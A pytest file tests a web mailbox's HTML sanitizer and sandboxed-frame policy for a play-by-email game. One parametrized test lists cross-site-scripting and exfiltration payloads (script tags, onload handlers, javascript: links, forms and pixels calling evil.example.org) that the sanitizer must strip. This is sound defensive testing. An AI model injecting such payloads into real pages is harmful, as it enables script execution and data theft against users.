"""The letter as the frame shows it: no script, nothing fetched from elsewhere, links that fill the reply box."""

import html
import re

import pytest

from pbem.web.markup import shown
from tests.support.demonstration import Demonstration

REPLY_TO = "g+token@pbem.example.org"


def framed(markup: str) -> str:
    """A letter's HTML as it is put into the frame."""
    return shown(
        markup,
        answers_to=REPLY_TO,
        fill=lambda order: f"/fill/{order}",
        picture=lambda cid: "/picture" if cid == "board@pbem" else None,
        own="http://127.0.0.1:8025",
    )


def test_a_letter_is_shown_with_its_picture_from_here_alone(table: Demonstration) -> None:
    page = table.browser.get(f"/mailbox/{table.newest}/html")
    sources = set(re.findall(r'src="([^"]*)"', page.text))
    assert len(sources) == 1
    picture = table.browser.get(html.unescape(sources.pop()))
    assert (picture.mimetype, picture.data[:4]) == ("image/png", b"\x89PNG")


def test_the_frame_is_a_sandbox_without_scripts(table: Demonstration) -> None:
    policy = table.browser.get(f"/mailbox/{table.newest}/html").headers["Content-Security-Policy"]
    assert policy.startswith("sandbox ")
    assert "allow-scripts" not in policy
    assert "allow-forms" not in policy
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'self'" in policy
    outer = table.browser.get("/mailbox/").text
    assert 'sandbox="allow-same-origin allow-top-navigation-by-user-activation"' in outer


def test_a_letter_of_the_service_has_no_script_and_no_remote_address(table: Demonstration) -> None:
    page = table.browser.get(f"/mailbox/{table.newest}/html").text
    assert "<script" not in page.lower()
    assert "mailto:" not in page
    for target in re.findall(r'(?:href|src|action)="([^"]*)"', page):
        assert target.startswith(("#", "/mailbox/", f"{table.service.settings.web_url}/"))
    assert re.search(r"url\(|@import", page) is None


def test_an_order_s_link_fills_the_box_of_the_page_around(table: Demonstration) -> None:
    page = table.browser.get(f"/mailbox/{table.newest}/html").text
    links = re.findall(r'<a [^>]*href="([^"]*order=[^"]*)" target="_top"', page)
    assert links
    assert all(link.startswith(f"/mailbox/{table.newest}?order=") and link.endswith("#reply") for link in links)


@pytest.mark.parametrize(
    "markup",
    [
        "<script>steal()</script>",
        "<SCRIPT src=//evil.example.org/x></SCRIPT>",
        '<p onclick="steal()">',
        '<a href="javascript:steal()">',
        '<a href="https://evil.example.org/">',
        '<a href="http://127.0.0.1:8025.evil.example.org/">',
        '<img src="https://evil.example.org/pixel">',
        '<iframe src="https://evil.example.org/"></iframe>',
        '<form action="https://evil.example.org/"><input name="steal"></form>',
        '<meta http-equiv="refresh" content="0; url=https://evil.example.org/">',
        '<link rel="stylesheet" href="https://evil.example.org/">',
        '<base href="https://evil.example.org/">',
        '<svg onload="steal()"><a href="https://evil.example.org/"></a></svg>',
        '<p style="background: url(https://evil.example.org/)">',
        "<style>@import 'https://evil.example.org/';</style>",
        '<a href="mailto:evil@evil.example.org?body=steal">',
    ],
)
def test_nothing_that_acts_or_fetches_is_kept(markup: str) -> None:
    kept = framed(f"<p>before</p>{markup}<p>after</p>").lower()
    assert "evil" not in kept
    assert "steal" not in kept
    assert "http-equiv" not in kept
    assert kept.startswith("<p>before</p>")
    assert kept.endswith("<p>after</p>")


def test_a_mailto_link_keeps_its_plus_and_its_lines() -> None:
    link = framed(f'<a class="c" href="mailto:{REPLY_TO}?subject=x&amp;body=P1%20to%2013+%0AP2%20stay">13</a>')
    assert link == '<a class="c" href="/fill/P1 to 13+\nP2 stay" target="_top">13</a>'


def test_text_stays_text() -> None:
    assert framed("<p>1 &lt; 2 &amp; &lt;script&gt;</p>") == "<p>1 &lt; 2 &amp; &lt;script&gt;</p>"


def test_only_the_letter_s_own_pictures_are_shown() -> None:
    assert framed('<img src="cid:board@pbem" alt="a">') == '<img alt="a" src="/picture">'
    assert framed('<img src="cid:other@pbem" alt="a">') == '<img alt="a">'
